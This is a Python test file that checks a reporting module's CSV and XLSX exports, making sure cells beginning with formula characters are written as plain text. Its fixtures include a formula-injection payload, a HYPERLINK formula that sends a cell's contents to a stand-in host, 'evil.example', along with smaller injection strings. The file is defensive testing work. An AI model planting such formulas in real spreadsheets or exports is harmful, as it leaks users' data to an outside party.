"""Exports are safe to open (issue 16, defect 7): a cell a spreadsheet would run as a formula
is written as text in CSV and XLSX."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

from openpyxl import load_workbook

from paseban.csvfiles import neutralise
from paseban.measurement.reports import Table
from paseban.services.measurement.reports import render_csv, render_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
ROWS: list[tuple[Any, ...]] = [
    (EVIL, 3),
    ("+1+1", -2),
    ("@SUM(A1)", 0.5),
    ("-2+3", None),
    ("\t=1", 1),
    ("\r=1", 1),
    ("Kel. Batu Tulis", 7),
]


def test_csv_cells_cannot_run_formulas() -> None:
    table = Table("Akun", ("nama", "angka"), ROWS)
    cells = [row[0] for row in csv.reader(io.StringIO(render_csv(table, tz="Asia/Jakarta")))][1:]
    assert cells[:6] == ["'" + r[0] for r in ROWS[:6]]
    assert cells[6] == "Kel. Batu Tulis"
    numbers = [row[1] for row in csv.reader(io.StringIO(render_csv(table, tz="Asia/Jakarta")))][1:]
    assert numbers[1] == "-2"  # a negative number is a number, not a formula


def test_xlsx_cells_cannot_run_formulas() -> None:
    report: Any = SimpleNamespace(
        tables={"akun": Table("=Akun", ("nama", "angka"), ROWS)}, tz="Asia/Jakarta"
    )
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    sheet = book["akun"]
    assert sheet["A1"].value == "'=Akun"
    values = [sheet.cell(row=i, column=1).value for i in range(3, 3 + len(ROWS))]
    assert values[0] == "'" + EVIL and sheet.cell(row=3, column=1).data_type == "s"
    assert all(str(v).startswith("'") for v in values[:6])
    assert sheet.cell(row=4, column=2).value == -2


def test_neutralise_leaves_plain_values() -> None:
    assert neutralise("Batu Tulis") == "Batu Tulis"
    assert neutralise(-5) == -5
    assert neutralise("=1") == "'=1"
